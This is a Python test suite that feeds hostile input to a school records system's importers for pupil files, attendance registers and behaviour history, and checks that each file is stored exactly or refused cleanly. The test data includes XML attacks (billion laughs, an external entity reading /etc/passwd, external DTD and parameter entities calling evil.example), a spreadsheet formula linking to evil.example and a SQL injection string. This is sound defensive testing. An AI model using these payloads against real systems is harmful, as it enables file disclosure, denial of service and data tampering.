"""Issue 14: a hostile-input suite over every importer.

Pupil files (CTF XML, pupil CSV), attendance registers (CSV, CTF) and history from another
system (JSON Lines, CSV; and the behaviour CSV) are fed oversized fields, control and
direction characters, formula prefixes, deep nesting, wrong encodings and XML attacks (billion
laughs, external entities, external DTDs). Each file is either imported, with every value stored
exactly as it was in the file, or refused whole with problems that name the line (or the pupil
element, or "the file") and quote no more than a bounded amount; after a refusal the record
tables hold what they held before.

The forms that take free text have their own suites: concerns/tests/test_hostile_forms.py
and voice/tests/test_hostile_forms.py.
"""

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from django.db.models import Model
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from attendance.importers.common import AttendanceImportError
from attendance.models import AttendanceImport, AttendanceWeek
from attendance.services import attendance_import
from concerns.importers.behaviour_csv import behaviour_import_csv
from concerns.importers.common import ImportFailed
from concerns.importers.history import import_history, read_csv, read_json_lines
from concerns.models import BehaviourIncident, Concern, ConcernVersion, Decision
from pupils.importers.apply import import_file
from pupils.importers.records import ImportFileError
from pupils.models import (
    Address,
    Enrolment,
    ImportKind,
    Person,
    Pupil,
    PupilAddress,
    PupilSourceRecord,
    Relationship,
)
from pupils.tests.ctf_files import ctf, pupil_xml
from schools.tests.factories import SchoolFactory

pytestmark = pytest.mark.django_db

EXAMPLES = settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
U1 = "R999888825002"
MONDAY = date(2025, 9, 1)
# No one problem line may be longer than this, however large the value it is about.
LINE_LIMIT = 700

# Values an attacker (or a broken MIS export) might put in any field.
NASTY = st.sampled_from(
    [
        '=HYPERLINK("https://evil.example","x")',
        "＝1+1",
        "＋＠－",
        "@SUM(A1)",
        "Ava\u202eKcim",
        "\u2066x\u2069",
        "\u200f",
        "tab\there",
        "nul\x00byte",
        "bell\x07",
        "line\u2028separator",
        "\ufeffbom",
        "\U0001f600",
        "a" * 101,
        "b" * 5000,
        "9" * 200_000,
        "",
        " ",
        "<Pupil>",
        "&amp;&lt;",
        "'; DROP TABLE pupils_pupil; --",
    ]
)
ANY_TEXT = st.text(
    alphabet=st.characters(codec="utf-8", categories=["Cc", "Cf", "Zs", "Zl", "Sm", "L", "N"]),
    max_size=40,
)
VALUE = st.one_of(NASTY, ANY_TEXT)

PUPIL_TABLES: list[type[Model]] = [
    Pupil,
    Enrolment,
    Address,
    PupilAddress,
    Person,
    Relationship,
    PupilSourceRecord,
]
HISTORY_TABLES: list[type[Model]] = [Concern, ConcernVersion, Decision, BehaviourIncident]
ATTENDANCE_TABLES: list[type[Model]] = [AttendanceWeek, AttendanceImport]

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]><CTfile><Header>&lol9;</Header></CTfile>"
)
XML_ATTACKS = {
    "billion laughs": BILLION_LAUGHS,
    "external entity": (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        "<CTfile><Header><CTFversion>&xxe;</CTFversion></Header></CTfile>"
    ),
    "external DTD": (
        '<?xml version="1.0"?><!DOCTYPE CTfile SYSTEM "http://evil.example/ctf.dtd">'
        "<CTfile><Header/></CTfile>"
    ),
    "parameter entity": (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>'
        "<CTfile/>"
    ),
    "deep nesting": "<CTfile>" + "<a>" * 100_000 + "</a>" * 100_000 + "</CTfile>",
    "not closed": "<CTfile><Header><CTFversion>25.0</CTFversion></Header><CTFpupilData><Pupil>",
    "control character": "<CTfile><Header>\x01</Header></CTfile>",
}
ENCODINGS = ["utf-16", "latin-1", "cp1252", "utf-32"]


def _counts(tables: list[type[Model]]) -> dict[str, int]:
    return {table.__name__: table.objects.count() for table in tables}


def _bounded(lines: list[str]) -> None:
    assert lines, "a refusal must say what is wrong"
    for line in lines:
        assert line.strip()
        assert len(line) <= LINE_LIMIT, line[:200]


@pytest.fixture(autouse=True)
def _ctf_versions(settings):
    settings.CAIRN_CTF_VERSIONS = ["25.0", "24.0"]


@pytest.fixture
def receiving_school(trust):
    return SchoolFactory(trust=trust, la_code="999", establishment_number="8888")


def _import_pupils(data: bytes, school, kind: ImportKind) -> ImportFileError | None:
    try:
        import_file(
            kind=kind,
            stream=io.BytesIO(data),
            file_name="hostile",
            school=school,
            actor=None,
            dry_run=False,
        )
    except ImportFileError as error:
        return error
    return None


# Pupil files: the Common Transfer File


@EXAMPLES
@given(
    field=st.sampled_from(["surname", "forename", "street", "postcode", "dob", "sex", "year"]),
    value=VALUE,
)
def test_ctf_fields_are_stored_exactly_or_refused_by_pupil(receiving_school, field, value):
    try:
        data = ctf(pupil_xml(upn=U1, **{field: value}))
    except ValueError:
        return
    before = _counts(PUPIL_TABLES)
    error = _import_pupils(data, receiving_school, ImportKind.CTF)
    if error is None:
        pupil = Pupil.objects.get(upn=U1)
        stored = {"surname": pupil.legal_surname, "forename": pupil.legal_forename}
        if field in stored:
            assert stored[field] == value.strip()
        return
    _bounded(error.describe().splitlines())
    assert all("<Pupil> 1" in p or "hostile" in p for p in error.problems)
    assert _counts(PUPIL_TABLES) == before


@pytest.mark.parametrize("attack", sorted(XML_ATTACKS))
def test_xml_attacks_on_the_pupil_ctf_are_refused(receiving_school, attack):
    before = _counts(PUPIL_TABLES)
    error = _import_pupils(XML_ATTACKS[attack].encode(), receiving_school, ImportKind.CTF)
    assert error is not None
    _bounded(error.describe().splitlines())
    assert "passwd" not in error.describe()
    assert "lollol" not in error.describe()
    assert _counts(PUPIL_TABLES) == before


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_a_ctf_in_another_encoding_is_imported_exactly_or_refused(receiving_school, encoding):
    text = ctf(pupil_xml(upn=U1, surname="Zoë-Siân")).decode("utf-8")
    data = text.encode(encoding, errors="replace")
    before = _counts(PUPIL_TABLES)
    error = _import_pupils(data, receiving_school, ImportKind.CTF)
    if error is None:
        assert Pupil.objects.get(upn=U1).legal_surname == "Zoë-Siân"
    else:
        _bounded(error.describe().splitlines())
        assert _counts(PUPIL_TABLES) == before


# Pupil files: CSV

CSV_HEADER = [
    "upn",
    "legal_forename",
    "legal_surname",
    "date_of_birth",
    "address_line_1",
    "address_postcode",
    "contact_1_forename",
    "contact_1_surname",
    "contact_1_relationship",
]


def _csv_bytes(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(CSV_HEADER)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8", errors="surrogatepass")


@EXAMPLES
@given(column=st.integers(min_value=1, max_value=len(CSV_HEADER) - 1), value=VALUE)
def test_pupil_csv_cells_are_stored_exactly_or_refused_by_line(school, column, value):
    row = [U1, "Ava", "Testchild", "2016-05-17", "3 Mill Lane", "ZZ1 1ZZ", "Kim", "Test", "PAM"]
    row[column] = value
    before = _counts(PUPIL_TABLES)
    error = _import_pupils(_csv_bytes([row]), school, ImportKind.CSV)
    if error is None:
        pupil = Pupil.objects.get(upn=U1)
        if column in {1, 2}:
            assert [pupil.legal_forename, pupil.legal_surname][column - 1] == value.strip()
        return
    _bounded(error.describe().splitlines())
    assert all(p.startswith(("Line ", "hostile", "…")) for p in error.problems)
    assert _counts(PUPIL_TABLES) == before


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_a_pupil_csv_in_another_encoding_is_refused_by_line(school, encoding):
    data = ",".join(CSV_HEADER) + f"\n{U1},Zoë,Testchild,2016-05-17,,,,,\n"
    before = _counts(PUPIL_TABLES)
    error = _import_pupils(data.encode(encoding), school, ImportKind.CSV)
    assert error is not None
    _bounded(error.describe().splitlines())
    assert _counts(PUPIL_TABLES) == before


# Attendance registers


def _registers(tmp_path: Path, data: bytes, name: str) -> AttendanceImportError | None:
    path = tmp_path / name
    path.write_bytes(data)
    try:
        attendance_import(actor=None, path=path)
    except AttendanceImportError as error:
        return error
    return None


@EXAMPLES
@given(field=st.sampled_from(["upn", "week_start", "marks"]), value=VALUE)
def test_attendance_csv_is_stored_or_refused_by_row(tmp_path, school, pupil, field, value):
    row = {"urn": school.urn, "upn": pupil.upn, "week_start": str(MONDAY), "marks": "/\\" * 5}
    row[field] = value
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(row))
    writer.writeheader()
    writer.writerow(row)
    before = _counts(ATTENDANCE_TABLES)
    error = _registers(tmp_path, buffer.getvalue().encode("utf-8", "surrogatepass"), "r.csv")
    if error is None:
        return
    _bounded([str(p) for p in error.problems])
    assert all(p.where.startswith(("row ", "file")) for p in error.problems)
    assert _counts(ATTENDANCE_TABLES) == before


@pytest.mark.parametrize("attack", sorted(XML_ATTACKS))
def test_xml_attacks_on_attendance_are_refused(tmp_path, school, attack):
    before = _counts(ATTENDANCE_TABLES)
    error = _registers(tmp_path, XML_ATTACKS[attack].encode(), "evil.xml")
    assert error is not None
    _bounded([str(p) for p in error.problems])
    assert "passwd" not in " ".join(str(p) for p in error.problems)
    assert _counts(ATTENDANCE_TABLES) == before


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_attendance_csv_in_another_encoding_is_refused(tmp_path, school, pupil, encoding):
    text = f"urn,upn,week_start,marks\n{school.urn},{pupil.upn},{MONDAY},/\\/\\/\\/\\/\\ é\n"
    before = _counts(ATTENDANCE_TABLES)
    error = _registers(tmp_path, text.encode(encoding), "r.csv")
    assert error is not None
    _bounded([str(p) for p in error.problems])
    assert _counts(ATTENDANCE_TABLES) == before


# History from another system, and behaviour from the MIS

JSON_VALUE = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), VALUE),
    lambda children: (
        st.lists(children, max_size=3)
        | st.dictionaries(st.sampled_from(["name", "role", "x"]), children, max_size=3)
    ),
    max_leaves=12,
)
HISTORY_FIELDS = [
    "kind",
    "upn",
    "occurred_at",
    "author",
    "text",
    "categories",
    "source_ref",
    "location",
]


def _history(dsl, lines) -> list[str] | None:
    try:
        import_history(actor=dsl, lines=lines, source_system="OldSys")
    except ImportFailed as failed:
        return [str(e) for e in failed.errors]
    return None


@EXAMPLES
@given(field=st.sampled_from(HISTORY_FIELDS), value=JSON_VALUE)
def test_history_lines_are_stored_exactly_or_refused_by_line(dsl, pupil, field, value):
    record = {
        "kind": "concern",
        "upn": pupil.upn,
        "occurred_at": "2024-01-15T08:50:00+00:00",
        "author": {"name": "J. Oldteacher", "role": "Class teacher"},
        "text": "Arrived without a coat.",
        "categories": [],
        "source_ref": "",
    }
    record[field] = value
    text = json.dumps(record) + "\n" + json.dumps({**record, field: value})
    before = _counts(HISTORY_TABLES)
    errors = _history(dsl, read_json_lines(text))
    if errors is None:
        if field == "text":
            assert ConcernVersion.objects.latest("pk").facts == str(value).strip()
        return
    _bounded(errors)
    assert all(e.startswith("line ") for e in errors)
    assert _counts(HISTORY_TABLES) == before


@pytest.mark.parametrize(
    "line",
    [
        "[" * 200_000,
        '{"kind": ' + "[" * 5000 + "]" * 5000 + "}",
        '{"a": ' * 3000 + "1" + "}" * 3000,
        "\x00",
        '{"kind": "concern", "text": "\ud800"}',
        "9" * 100_000,
    ],
)
def test_malformed_history_lines_are_named_and_the_file_refused(dsl, pupil, line):
    good = json.dumps(
        {
            "kind": "behaviour",
            "upn": pupil.upn,
            "occurred_at": "2024-01-15",
            "author": {"name": "A"},
            "text": "x",
            "incident_type": "Push",
            "source_ref": "B1",
        }
    )
    errors = _history(dsl, read_json_lines(good + "\n" + line))
    assert errors is not None
    _bounded(errors)
    assert all(e.startswith("line 2") for e in errors)
    assert _counts(HISTORY_TABLES) == dict.fromkeys(_counts(HISTORY_TABLES), 0)


@EXAMPLES
@given(cells=st.lists(VALUE, min_size=5, max_size=5))
def test_history_csv_is_stored_or_refused_by_line(dsl, pupil, cells):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["kind", "upn", "occurred_at", "author_name", "text"])
    writer.writerow(cells)
    writer.writerow(["concern", pupil.upn, "2024-01-15", cells[3], cells[4]])
    before = _counts(HISTORY_TABLES)
    errors = _history(dsl, read_csv(buffer.getvalue()))
    if errors is not None:
        _bounded(errors)
        assert all(e.startswith("line ") for e in errors)
        assert _counts(HISTORY_TABLES) == before


@EXAMPLES
@given(cells=st.lists(VALUE, min_size=8, max_size=8))
def test_behaviour_csv_is_stored_or_refused_by_line(dsl, pupil, cells):
    header = ["incident_id", "upn", "date", "time", "type", "description", "action_taken"]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([*header, "recorded_by"])
    writer.writerow(cells)
    before = _counts(HISTORY_TABLES)
    errors = _behaviour(dsl, buffer.getvalue())
    if errors is not None:
        _bounded(errors)
        assert all(e.startswith("line ") for e in errors)
        assert _counts(HISTORY_TABLES) == before


def _behaviour(dsl, text: str) -> list[str] | None:
    try:
        behaviour_import_csv(actor=dsl, text=text)
    except ImportFailed as failed:
        return [str(e) for e in failed.errors]
    return None
